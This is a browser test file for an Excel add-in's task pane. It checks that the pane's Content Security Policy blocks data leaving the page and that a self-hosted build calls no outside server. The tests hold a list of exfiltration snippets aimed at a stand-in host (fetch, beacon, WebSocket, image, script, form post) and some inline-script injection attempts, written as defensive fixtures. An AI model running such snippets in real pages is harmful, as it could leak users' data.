/**
 * The pane's page against somebody who runs a script in it, without Office's library, and as a council
 * may serve it from its own network: in Chromium, on the page as it is built.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { describeInBrowser, type BrowserRun } from '../support/browser';
import { CLOSED_TO_PANE, policyOf } from '../support/csp';
import { paneFrame } from '../support/pane-keys';
import { openWorkbench } from '../support/workbench';

jest.setTimeout(120_000);

const ROOT = path.join(__dirname, '..', '..');
const ELSEWHERE = 'elsewhere.example';

const PAGE = /\/addin\/taskpane\.html$/u;

/** Each tries to get a word out, or to run one; resolves when it has tried. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  fetch: `fetch('https://${ELSEWHERE}/fetch?w').catch(() => 0)`,
  'a request to its own server': `fetch('/own-fetch?w').catch(() => 0)`,
  XMLHttpRequest: `(() => { const x = new XMLHttpRequest(); x.open('POST', 'https://${ELSEWHERE}/xhr'); x.send('w'); })()`,
  beacon: `navigator.sendBeacon('https://${ELSEWHERE}/beacon', 'w')`,
  WebSocket: `(() => { try { new WebSocket('wss://${ELSEWHERE}/socket?w'); } catch {} })()`,
  EventSource: `new EventSource('https://${ELSEWHERE}/events?w')`,
  picture: `new Image().src = 'https://${ELSEWHERE}/picture?w'`,
  'picture of its own server': `new Image().src = '/own-picture?w'`,
  sound: `new Audio('https://${ELSEWHERE}/sound?w').load()`,
  script: `document.head.append(Object.assign(document.createElement('script'), { src: 'https://${ELSEWHERE}/script?w' }))`,
  style: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://${ELSEWHERE}/style?w' }))`,
  prefetch: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://${ELSEWHERE}/prefetch?w' }))`,
  'picture of a style': `document.body.append(Object.assign(document.createElement('p'), { textContent: 'x', style: 'background: url(https://${ELSEWHERE}/background?w)' }))`,
  'sheet of a style': `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import url(https://${ELSEWHERE}/import?w);' }))`,
  font: `new FontFace('w', 'url(https://${ELSEWHERE}/font?w)').load().catch(() => 0)`,
  frame: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://${ELSEWHERE}/frame?w' }))`,
  object: `document.body.append(Object.assign(document.createElement('object'), { data: 'https://${ELSEWHERE}/object?w' }))`,
  worker: `(() => { try { new Worker('taskpane.js'); } catch {} })()`,
  'service worker': `navigator.serviceWorker.register('taskpane.js').catch(() => 0)`,
  base: `document.head.append(Object.assign(document.createElement('base'), { href: 'https://${ELSEWHERE}/' }))`,
};

/** Last: it takes the frame away, blocked as it is. */
const FORM = `(() => { const f = document.createElement('form'); f.action = 'https://${ELSEWHERE}/form'; f.method = 'post'; document.body.append(f); f.submit(); })()`;

describeInBrowser('a script of somebody else in the pane', (run) => {
  it('gets nothing out, in any of the ways that a page has (N122)', async () => {
    const { page, requests, errors } = await openWorkbench(run);
    const sockets: string[] = [];
    page.on('websocket', (socket) => sockets.push(socket.url()));
    const frame = paneFrame(page);
    await frame.evaluate(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      addEventListener('securitypolicyviolation', (event) => {
        seen.push(event.effectiveDirective);
      });
    });
    const before = requests.length;
    // Chromium tells of a request that the policy stops as well, and says that it did.
    const stopped = new Set<string>();
    page.context().on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') stopped.add(request.url());
    });
    const through = (): string[] =>
      requests.slice(before).filter((url) => /\?w$|elsewhere/u.test(url) && !stopped.has(url));
    for (const [name, attempt] of Object.entries(ATTEMPTS)) {
      await frame.evaluate(`(async () => { await (${attempt}); })()`);
      expect([name, frame.url()]).toEqual([name, expect.stringMatching(PAGE)]);
    }
    await page.waitForTimeout(1500);
    const seen: string[] = await frame.evaluate('seen');
    expect(new Set(seen)).toEqual(
      new Set([
        ...['connect-src', 'img-src', 'media-src', 'script-src-elem', 'style-src-elem'],
        ...['default-src', 'font-src', 'frame-src', 'object-src', 'worker-src'],
        'base-uri',
      ]),
    );
    expect(through()).toEqual([]);
    expect(sockets).toEqual([]);
    await frame.evaluate(FORM).catch(() => undefined);
    await page.waitForTimeout(500);
    expect(errors.filter((one) => one.includes("form-action 'none'"))).toHaveLength(1);
    expect(through()).toEqual([]);
  });

  it('can run no text: no eval, no made function, no handler, no script in the page', async () => {
    const { page } = await openWorkbench(run);
    // As a script of the page would: what a test evaluates itself stands outside of the policy.
    const ran = await paneFrame(page).evaluate(async () => {
      const ran: string[] = [];
      Object.assign(window, { ran });
      const script = document.createElement('script');
      script.textContent = "ran.push('script')";
      document.body.append(script);
      const button = document.createElement('button');
      button.setAttribute('onclick', "ran.push('handler')");
      document.body.append(button);
      button.click();
      setTimeout("ran.push('later')", 0);
      const link = document.createElement('a');
      link.href = "javascript:ran.push('link')";
      document.body.append(link);
      link.click();
      await new Promise((resolve) => {
        setTimeout(resolve, 200);
      });
      return ran;
    });
    expect(ran).toEqual([]);
  });
});

/** A page by itself, and every address that was asked for and did not come from this computer. */
async function alone(
  context: BrowserContext,
  address: string,
): Promise<{ page: Page; foreign: string[] }> {
  const foreign: string[] = [];
  await context.route(/^https?:\/\/(?!localhost)/u, async (route) => {
    foreign.push(route.request().url());
    await route.abort();
  });
  const page = await context.newPage();
  await page.goto(address);
  return { page, foreign };
}

describeInBrowser('without office.js', (run) => {
  it('says in words, after some seconds, that it could not be loaded (N128)', async () => {
    const opened = await run.open({ path: 'addin/about.html' });
    const context = await browserContext(run);
    await context.route('**/office.js', (route) => route.abort());
    const { page } = await alone(context, `${opened.address}addin/taskpane.html`);
    await page.getByText('Opening Rolecheck').waitFor();
    const late = page.getByRole('status');
    expect(await late.isVisible()).toBe(false);
    await late.waitFor({ state: 'visible', timeout: 10_000 });
    expect(await late.innerText()).toContain('Your workbook has not been touched');
    await context.close();
  });
});

/** Serves a folder on this computer, as a council's web server would. */
async function serve(folder: string): Promise<{ server: Server; address: string }> {
  const types = new Map([
    ['.html', 'text/html'],
    ['.js', 'text/javascript'],
    ['.css', 'text/css'],
  ]);
  const server = createServer((request, response) => {
    const name = new URL(request.url ?? '/', 'http://localhost').pathname;
    const file = path.join(folder, name);
    if (!existsSync(file) || !statSync(file).isFile()) response.writeHead(404).end();
    else {
      const type = types.get(path.extname(file)) ?? 'application/octet-stream';
      response.writeHead(200, { 'content-type': type }).end(readFileSync(file));
    }
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const at = server.address();
  if (at === null || typeof at === 'string') throw new Error('Rolecheck: no port');
  return { server, address: `http://localhost:${String(at.port)}/` };
}

describeInBrowser('served from a network of one’s own, the rest of the world cut off', (run) => {
  const folder = mkdtempSync(path.join(tmpdir(), 'rolecheck-self-'));
  let server: Server;
  let address = '';

  beforeAll(async () => {
    const base = ['--base-url', 'https://intranet.example/rolecheck', '--out', folder];
    execFileSync(process.execPath, ['--import', 'tsx', 'tools/self-host.ts', ...base], {
      cwd: ROOT,
    });
    ({ server, address } = await serve(folder));
  });

  afterAll(() => {
    server.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it('has a page that names no other server, and a policy that lets none in', () => {
    const page = readFileSync(path.join(folder, 'taskpane.html'), 'utf8');
    expect(page).not.toMatch(/https?:\/\//u);
    const policy = policyOf(page);
    expect(policy.get('script-src')).toEqual(["'self'"]);
    for (const directive of CLOSED_TO_PANE) {
      expect([directive, policy.get(directive)]).toEqual([directive, ["'none'"]]);
    }
    const manifest = readFileSync(path.join(folder, 'manifest.xml'), 'utf8');
    expect(manifest).toContain('https://intranet.example/rolecheck/taskpane.html');
    expect(manifest).not.toContain('"https://localhost');
  });

  it('has what Excel 2021 and newer ask for of Microsoft’s files, unchanged, with their terms', () => {
    const files = readdirSync(path.join(folder, 'office'), { recursive: true, encoding: 'utf8' });
    const scripts = files.filter((name) => name.endsWith('.js'));
    expect(scripts).toHaveLength(6);
    const library = path.join(ROOT, 'node_modules/@microsoft/office-js');
    for (const name of scripts) {
      const theirs = readFileSync(path.join(library, 'dist', name));
      const ours = readFileSync(path.join(folder, 'office', name));
      expect([name, ours.equals(theirs)]).toEqual([name, true]);
    }
    expect(existsSync(path.join(folder, 'office', 'LICENSE.md'))).toBe(true);
  });

  it('says outside Excel where it works, and asks nobody else', async () => {
    const context = await browserContext(run);
    const { page, foreign } = await alone(context, `${address}taskpane.html`);
    await page.getByText('Rolecheck works in Excel').waitFor();
    expect(foreign).toEqual([]);
    await context.close();
  });

  it.each([
    ['win32', 'en-GB', 'excel-win32-16.01.js'],
    ['Mac', 'en-GB', 'excel-mac-16.00.js'],
    ['Web', 'en-GB', 'excel-web-16.00.js'],
    ['Web', 'fr-FR', 'excel-web-16.00.js'],
  ])(
    'loads for Excel on %s in %s what stands beside it, and asks nobody else',
    async (...asked) => {
      const [platform, language, library] = asked;
      const context = await browserContext(run);
      const got: string[] = [];
      context.on('response', (response) => {
        if (response.ok()) got.push(new URL(response.url()).pathname);
      });
      const host = encodeURIComponent(`Excel$${platform}$16.01$${language}$$$$0`);
      const { page, foreign } = await alone(context, `${address}taskpane.html?_host_Info=${host}`);
      const wanted = [`/office/${library}`, '/office/en-us/office_strings.js'];
      for (let tries = 0; tries < 100 && !wanted.every((one) => got.includes(one)); tries++) {
        await page.waitForTimeout(100);
      }
      expect(wanted.filter((one) => !got.includes(one))).toEqual([]);
      expect(foreign).toEqual([]);
      await context.close();
    },
  );
});

async function browserContext(run: BrowserRun): Promise<BrowserContext> {
  const { page } = await run.open({ path: 'addin/about.html' });
  const context = await page.context().browser()?.newContext();
  if (!context) throw new Error('Rolecheck: no browser');
  return context;
}
